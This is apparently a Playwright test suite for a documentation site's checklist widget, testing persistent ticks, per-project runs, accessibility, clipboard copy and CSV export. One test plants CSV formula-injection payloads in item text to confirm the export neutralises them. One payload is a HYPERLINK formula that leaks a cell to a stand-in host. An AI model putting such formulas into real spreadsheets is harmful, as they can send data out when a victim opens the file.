"""Checklists people run: ticks that survive reloads and page changes, one run per project,
progress read out politely, and exports to paste into Teams, Jira or ClickUp. With JavaScript
off the checklist still reads as a list of items with owners and due points.
"""
from __future__ import annotations

import csv
import io
import json

import pytest
from playwright.sync_api import expect

pytestmark = pytest.mark.browser

PAGE = "phases/kickoff/"
LIST = "kickoff-readiness"


def _items(page) -> list[dict]:
    return page.eval_on_selector_all(
        f"#checklist-{LIST} [data-pb-item]",
        """items => items.map(li => ({id: li.dataset.pbItem, text: li.querySelector('label').textContent.trim(),
                                      owner: li.dataset.pbOwner, due: li.dataset.pbDue,
                                      checked: li.querySelector('input').checked}))""")


def _box(page, item: str):
    return page.locator(f"#pb-{LIST}--{item}")


def _progress(page) -> str:
    return page.locator(f"#checklist-{LIST} [data-pb-progress]").inner_text()


def _storage(page) -> dict:
    return page.evaluate("() => Object.fromEntries(Object.entries(localStorage))")


def _set_project(page, name: str) -> None:
    field = page.locator(f"#checklist-{LIST} [data-pb-project]")
    field.fill(name)
    field.press("Enter")


def test_ticks_survive_a_reload_and_a_trip_to_another_page(visit, internal_site):
    visitor = visit(internal_site)
    page = visitor.open(PAGE)
    items = _items(page)
    assert _progress(page) == f"0 of {len(items)} done"
    # Keyboard only: Tab to the box, Space to tick it.
    _box(page, items[0]["id"]).focus()
    page.keyboard.press("Space")
    page.keyboard.press("Tab")
    _box(page, items[2]["id"]).focus()
    page.keyboard.press("Space")
    assert _progress(page) == f"2 of {len(items)} done"

    page.reload()
    assert [i["checked"] for i in _items(page)][:3] == [True, False, True]
    page.click("a.md-nav__link[href$='go-live/']")
    page.wait_for_url("**/phases/go-live/")
    page.go_back()
    page.wait_for_url(f"**/{PAGE}")
    assert [i["checked"] for i in _items(page)][:3] == [True, False, True]
    assert _progress(page) == f"2 of {len(items)} done"


def test_ticks_are_stored_by_checklist_and_item_id_never_by_text(visit, internal_site):
    visitor = visit(internal_site)
    page = visitor.open(PAGE)
    items = _items(page)
    _box(page, items[1]["id"]).check()
    stored = _storage(page)
    runs = {k: v for k, v in stored.items() if k.startswith("pb:run:")}
    assert runs == {f"pb:run:{LIST}:": json.dumps({items[1]["id"]: True}, separators=(",", ":"))}
    assert items[1]["text"] not in json.dumps(stored)

    # A tick saved for an item that has since been removed, or reworded elsewhere, never moves
    # to another item: only ids are matched.
    page.evaluate("""([key, keep]) => localStorage.setItem(key,
        JSON.stringify({[keep]: true, 'an-item-that-was-removed': true}))""",
                  [f"pb:run:{LIST}:", items[3]["id"]])
    page.reload()
    assert [i["id"] for i in _items(page) if i["checked"]] == [items[3]["id"]]
    assert _progress(page) == f"1 of {len(items)} done"


def test_each_project_keeps_its_own_run_and_reset_clears_only_one(visit, internal_site):
    visitor = visit(internal_site)
    page = visitor.open(PAGE)
    items = _items(page)
    _set_project(page, "Acme rollout")
    _box(page, items[0]["id"]).check()
    _box(page, items[1]["id"]).check()
    _set_project(page, "Globex")
    assert not any(i["checked"] for i in _items(page))
    _box(page, items[4]["id"]).check()

    _set_project(page, "Acme rollout")
    assert [i["id"] for i in _items(page) if i["checked"]] == [items[0]["id"], items[1]["id"]]
    # The project is remembered for the next page and the next visit.
    page.reload()
    assert page.locator(f"#checklist-{LIST} [data-pb-project]").input_value() == "Acme rollout"
    assert _progress(page) == f"2 of {len(items)} done"

    page.once("dialog", lambda dialog: dialog.accept())
    page.click(f"#checklist-{LIST} [data-pb-action=reset]")
    assert not any(i["checked"] for i in _items(page))
    expect(page.locator(f"#checklist-{LIST} [data-pb-status]")).to_have_text("Cleared the run for Acme rollout.")
    _set_project(page, "Globex")
    assert [i["id"] for i in _items(page) if i["checked"]] == [items[4]["id"]]
    # Both projects are offered when switching.
    options = page.eval_on_selector_all(f"#checklist-{LIST} datalist option", "os => os.map(o => o.value)")
    assert options == ["Globex"]  # Acme's run was reset, so only Globex has a saved run


def test_progress_is_a_polite_live_region(visit, internal_site):
    page = visit(internal_site).open(PAGE)
    progress = page.locator(f"#checklist-{LIST} [data-pb-progress]")
    assert progress.get_attribute("aria-live") == "polite"
    assert progress.get_attribute("aria-atomic") == "true"
    # Every control has a name a screen reader can say.
    for control in page.locator(f"#checklist-{LIST} .pb-checklist__tools :is(button, input)").all():
        name = control.evaluate("el => el.labels && el.labels.length ? el.labels[0].textContent : el.textContent")
        assert name.strip(), control


def test_copy_as_markdown_task_list(visit, internal_site):
    visitor = visit(internal_site, permissions=["clipboard-read", "clipboard-write"])
    page = visitor.open(PAGE)
    items = _items(page)
    _set_project(page, "Acme")
    _box(page, items[0]["id"]).check()
    page.click(f"#checklist-{LIST} [data-pb-action=copy]")
    page.wait_for_function(f"document.querySelector('#checklist-{LIST} [data-pb-status]').textContent.startsWith('Copied')")
    text = page.evaluate("navigator.clipboard.readText()")
    lines = text.splitlines()
    assert lines[0] == "**Kickoff readiness** (Acme)"
    tasks = [line for line in lines if line.startswith("- [")]
    assert len(tasks) == len(items)
    first = items[0]
    assert tasks[0] == f"- [x] {first['text']} — {first['owner']}, {first['due']}"
    assert tasks[1].startswith(f"- [ ] {items[1]['text']} — ")


def test_download_as_csv(visit, internal_site):
    page = visit(internal_site).open(PAGE)
    items = _items(page)
    _box(page, items[2]["id"]).check()
    with page.expect_download() as download:
        page.click(f"#checklist-{LIST} [data-pb-action=csv]")
    assert download.value.suggested_filename == f"{LIST}.csv"
    rows = list(csv.reader(io.StringIO(open(download.value.path(), encoding="utf-8", newline="").read())))
    assert rows[0] == ["item", "owner", "due", "done"]
    assert rows[1:] == [[i["text"], i["owner"], i["due"], "yes" if n == 2 else "no"] for n, i in enumerate(items)]


def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_written_as_text(visit, internal_site):
    """Item text that starts like a formula (written by a careless or hostile author) must not
    run when the file is opened in Excel or LibreOffice Calc."""
    visitor = visit(internal_site)
    items = _items(visitor.open(PAGE))
    formulas = ['=HYPERLINK("https://x.example/?leak="&A1,"open")', "+1+1", "-2+3", "@SUM(1)"]

    def plant(route):
        body = route.fetch().text()
        for item, formula in zip(items[:len(formulas)], formulas, strict=True):
            assert item["text"] in body
            body = body.replace(item["text"], formula.replace('"', "&quot;").replace("&A1", "&amp;A1"), 1)
        route.fulfill(body=body, content_type="text/html; charset=utf-8")

    visitor.page.route(f"**/{PAGE}", plant)
    page = visitor.open(PAGE)
    assert [item["text"] for item in _items(page)][:len(formulas)] == formulas
    with page.expect_download() as download:
        page.click(f"#checklist-{LIST} [data-pb-action=csv]")
    rows = list(csv.reader(io.StringIO(open(download.value.path(), encoding="utf-8", newline="").read())))
    assert [row[0] for row in rows[1:len(formulas) + 1]] == ["'" + formula for formula in formulas]
    assert rows[len(formulas) + 1][0] == items[len(formulas)]["text"], "ordinary text is left alone"


def test_without_javascript_the_checklist_still_reads_with_owners_and_timing(visit, internal_site):
    page = visit(internal_site, java_script_enabled=False).open(PAGE)
    checklist = page.locator(f"#checklist-{LIST}")
    first = checklist.locator("[data-pb-item]").first.inner_text()
    assert "Owner:" in first and "Due:" in first
    # No control that needs JavaScript is on screen.
    assert page.locator(".pb-checklist__tools, .pb-matrix__filter, .pb-search-feedback").count() == 0
    assert page.locator(".pb-matrix table").is_visible()


def test_every_checklist_says_its_ticks_stay_in_this_browser(visit, any_site):
    """Issue 16, defect 13: nothing said that ticks live only in this browser."""
    page = visit(any_site).open(PAGE)
    checklists = page.locator("[data-pb-checklist]")
    assert checklists.count() >= 1
    for checklist in checklists.all():
        note = checklist.locator("[data-pb-storage-note]")
        expect(note).to_be_visible()
        assert "in this browser only" in note.inner_text() and "another browser or device" in note.inner_text()
